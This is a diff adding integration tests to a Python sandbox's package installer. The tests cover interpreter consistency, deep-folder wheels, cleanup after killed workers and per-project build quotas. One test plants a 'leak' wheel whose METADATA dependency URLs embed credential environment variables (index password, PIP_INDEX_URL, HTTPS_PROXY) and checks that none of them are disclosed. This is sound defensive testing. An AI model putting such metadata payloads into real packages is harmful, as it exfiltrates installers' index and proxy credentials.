@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import asyncio
+import fcntl
 import os
+import sys
 import time
 from collections.abc import Callable
 from dataclasses import replace
@@ -11,10 +13,14 @@ from pathlib import Path
 from typing import Any
 from uuid import uuid4
 
+import pytest
+
 from tests.integration.sandbox.conftest import open_runner, until
 from tests.integration.sandbox.packages import requirements_file, wheel
 from workers.runners import Assignment, Failure, Success
 from workers.runners.deterministic import DeterministicRunner
+from workers.sandbox.packages.installer import InstallLimits
+from workers.sandbox.packages.verification import EnvironmentBounds
 from workers.sandbox.supplies import SupplyBounds
 
 Skill = Callable[..., Assignment]
@@ -44,6 +50,40 @@ async def test_a_package_and_its_programs_are_there_for_the_job(
     quiet = type(notebook)()
     assert isinstance(await runner.run(assignment, quiet), Success)
     assert quiet.of("environment") == []
+
+
+@pytest.mark.parametrize("lines", [None, "tiny-wheel", "puras[local] >= 0.20  # the client\n"])
+async def test_every_job_has_the_same_python_and_the_kit_as_puras(
+    runner: DeterministicRunner,
+    skill: Skill,
+    notebook: Any,
+    index: Path,
+    tmp_path: Path,
+    lines: str | None,
+) -> None:
+    for name in ("httpx", "pyyaml", "puras"):
+        wheel(index, name=name, extra={f"{name}.py": "FROM = 'index'\n"})
+    code = """
+        import puras, subprocess, sys
+        def run(inputs):
+            version = "import sys; print(sys.version)"
+            asked = [["python3", "-c", version], ["python", "-c", version], ["puras", "--version"],
+                     ["python3", "-m", "puras", "--version"]]
+            said = [subprocess.run(one, capture_output=True, text=True) for one in asked]
+            try:
+                import httpx
+                found = httpx.FROM
+            except ImportError:
+                found = None
+            return [sys.version, puras.__version__, [one.stdout.strip() + one.stderr for one in said], found]
+        """
+    given = {} if lines is None else {"requirements": requirements_file(tmp_path, lines)}
+    outcome = await runner.run(skill(code, **given), notebook)
+    assert isinstance(outcome, Success), outcome
+    version, kit, said, found = outcome.value
+    assert version == sys.version
+    assert said == [version, version, f"puras {kit}", f"puras {kit}"]
+    assert found == ("index" if lines and "puras" in lines else None)
 
 
 async def test_jobs_that_wait_for_the_same_packages_share_one_build(
@@ -131,6 +171,56 @@ async def test_nothing_of_a_package_runs_while_it_is_installed(
     assert list(environment.glob("lib/python3*/site-packages/__pycache__/tinywheel.*.pyc"))
 
 
+async def test_a_wheel_of_very_deep_folders_fails_its_job_and_leaves_nothing(
+    runner: DeterministicRunner, skill: Skill, notebook: Any, index: Path, tmp_path: Path
+) -> None:
+    wheel(index, name="deep_wheel", extra={"a/" * 1_100 + "x.txt": "1", "data.bin": "x" * (1 << 20)})
+    outcome = await runner.run(
+        skill("def run(inputs): return 1", requirements=requirements_file(tmp_path, "deep-wheel")), notebook
+    )
+    assert isinstance(outcome, Failure), outcome
+    assert outcome.code == "environment_failed"
+    assert "deeper than 64" in outcome.message
+    assert [path.suffix for path in (tmp_path / "home/environments").iterdir()] == [".failed"]
+
+
+@pytest.mark.parametrize(
+    "place",
+    [
+        "http://x.invalid/${UV_INDEX_CORP_PASSWORD}/e.whl",
+        "http://${UV_INDEX_CORP_PASSWORD}/e.whl",
+        "http://x.invalid/${UV_INDEX_CORP_PASSWORD}/../e.whl",
+        "http://x.invalid/${UV_EXTRA_INDEX_URL}/e.whl",
+        "http://x.invalid/e.whl?q=${HTTPS_PROXY}",
+        "http://x.invalid/e.whl#${PIP_INDEX_URL}",
+    ],
+)
+async def test_metadata_of_a_package_makes_the_installer_print_no_credentials(
+    runner: DeterministicRunner,
+    skill: Skill,
+    notebook: Any,
+    index: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    place: str,
+) -> None:
+    secrets = ["Hunter2-of-the", "+Operator", "IndexSecret", "ProxySecret"]
+    monkeypatch.setenv("UV_INDEX_CORP_PASSWORD", "/".join(secrets[:2]))
+    monkeypatch.setenv("UV_EXTRA_INDEX_URL", f"https://user:{secrets[2]}@pypi.corp.invalid/simple")
+    monkeypatch.setenv("PIP_INDEX_URL", f"https://user:{secrets[2]}@pypi.corp.invalid/simple")
+    monkeypatch.setenv("HTTPS_PROXY", f"http://user:{secrets[3]}@127.0.0.1:9")
+    metadata = f"Metadata-Version: 2.1\nName: leak\nVersion: 1.0\nRequires-Dist: evil @ {place}\n"
+    wheel(index, name="leak", extra={"leak-1.0.dist-info/METADATA": metadata})
+    outcome = await runner.run(
+        skill("def run(inputs): return 1", requirements=requirements_file(tmp_path, "leak")), notebook
+    )
+    assert isinstance(outcome, Failure), outcome
+    kept = next((tmp_path / "home/environments").glob(".*.failed")).read_text(encoding="utf-8")
+    shown = "".join([outcome.message, str(notebook.events), kept]).lower()
+    assert "leak" in shown
+    assert [secret for secret in secrets if secret.lower() in shown] == []
+
+
 async def test_refused_lines_fail_the_job_before_anything_is_installed(
     runner: DeterministicRunner, skill: Skill, notebook: Any, tmp_path: Path
 ) -> None:
@@ -176,6 +266,63 @@ async def test_environments_that_nobody_uses_go_and_come_back_when_they_are_want
         await runner.close()
 
 
+async def test_what_a_killed_worker_left_is_removed_at_the_start_and_later(
+    tmp_path: Path, skill: Skill, notebook: Any, index: Path
+) -> None:
+    key, held_key = "a" * 64, "b" * 64
+    environments, wheels = tmp_path / "home/environments", tmp_path / "home/wheels"
+
+    def leave(key: str) -> list[Path]:
+        """What a worker holds and makes while it installs and builds."""
+        folders = [environments / f".{key}.building", wheels / f".{key}.0f", wheels / f".{key}.0f.wheel"]
+        for folder in folders:
+            (folder / "inner").mkdir(parents=True)
+        files = [environments / f".{key}.lock", wheels / f".{key}.lock"]
+        for file in files:
+            file.touch()
+        return [*folders, *files]
+
+    left, kept = leave(key), leave(held_key)
+    (environments / key).mkdir()
+    (environments / f".{key}.used").touch()
+    with (environments / f".{held_key}.lock").open() as one, kept[-1].open() as two:
+        for lock in (one, two):
+            fcntl.flock(lock, fcntl.LOCK_EX)
+        runner = open_runner(tmp_path)
+        try:
+            await until(lambda: not any(path.exists() for path in left))
+            left = leave(key)
+            await runner.supplies.tidy()
+        finally:
+            await runner.close()
+        assert [path for path in left if path.exists()] == []
+        assert [path for path in kept if not path.exists()] == []
+        assert (environments / key).is_dir()
+        assert (environments / f".{key}.used").exists()
+
+
 def _age(shelf: Path) -> None:
     for path in shelf.iterdir():
         os.utime(path, (0, 0))
+
+
+async def test_a_project_builds_no_more_than_its_share_in_an_hour(
+    skill: Skill, notebook: Any, index: Path, tmp_path: Path
+) -> None:
+    """With its share used up, the next build is rejected; what is built runs, and another project builds."""
+    code = "import tinywheel\ndef run(inputs): return tinywheel.ANSWER"
+    first = skill(code, requirements=requirements_file(tmp_path, "tiny-wheel", "first"))
+    other = skill(code, requirements=requirements_file(tmp_path, "tiny-wheel>=0.1", "second"))
+    second = replace(other, project_id=first.project_id)
+    runner = open_runner(tmp_path, install_limits=InstallLimits(EnvironmentBounds(project_mb=1)))
+    try:
+        assert isinstance(await runner.run(first, notebook), Success)
+        (noted,) = (tmp_path / "home/environments").glob(".*.size")
+        noted.write_text(noted.read_text().replace('"size_bytes": ', '"size_bytes": 9999'))
+        rejected = await runner.run(second, notebook)
+        assert isinstance(rejected, Failure)
+        assert "1 MiB are allowed" in rejected.message
+        assert isinstance(await runner.run(first, notebook), Success)
+        assert isinstance(await runner.run(other, notebook), Success)
+    finally:
+        await runner.close()
